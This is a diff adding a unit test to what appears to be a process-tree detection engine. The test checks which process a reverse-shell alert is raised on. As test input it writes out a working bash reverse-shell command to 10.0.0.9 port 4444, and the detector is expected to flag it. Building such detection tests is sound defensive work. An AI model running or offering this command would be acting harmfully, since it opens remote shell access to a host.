@@ -308,4 +308,19 @@ describe('process trees: baseline findings fold into one alert per tree', () => 
     // without the lineage (an older agent) the idle subshell is the root of a tree of its own
     expect(run(false).second.alerts.map((a) => a.key)).toEqual(['tree 1401:bash']);
   });
+
+  it('an exec rule is raised on the process that runs the command, not on the harness that started it (when the batch has it)', () => {
+    const e = new DetectionEngine(rules, OPTS);
+    const t = learned(e);
+    const argv = ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'];
+    const harness = proc({ pid: 2000, ppid: 1, exe: '/usr/bin/node', comm: 'node', ancestry: ['/usr/lib/systemd/systemd'], execs: [{ time: t, filename: BASH, argv, ret: 0 }], network: [] });
+    const action = proc({ pid: 2001, ppid: 2000, exe: BASH, comm: 'bash', ancestry: ['/usr/bin/node', '/usr/lib/systemd/systemd'], argv, execs: [], network: [] });
+    const r = e.processBatch(batch(t, [harness, action]));
+    const shell = r.alerts.filter((a) => a.kind === 'reverse-shell-command');
+    expect(shell).toHaveLength(1);
+    expect(shell[0]).toMatchObject({ pid: 2001, ppid: 2000, program: BASH, ancestry: ['/usr/bin/node', '/usr/lib/systemd/systemd'] });
+    // the command's process not in the batch: the alert stays on the program that started it
+    const alone = e.processBatch(batch(t + 700 * S, [{ ...harness, execs: [{ time: t + 700 * S, filename: BASH, argv: [...argv, '#2'], ret: 0 }] }]));
+    expect(alone.alerts.find((a) => a.kind === 'reverse-shell-command')).toMatchObject({ pid: 2000, program: '/usr/bin/node' });
+  });
 });
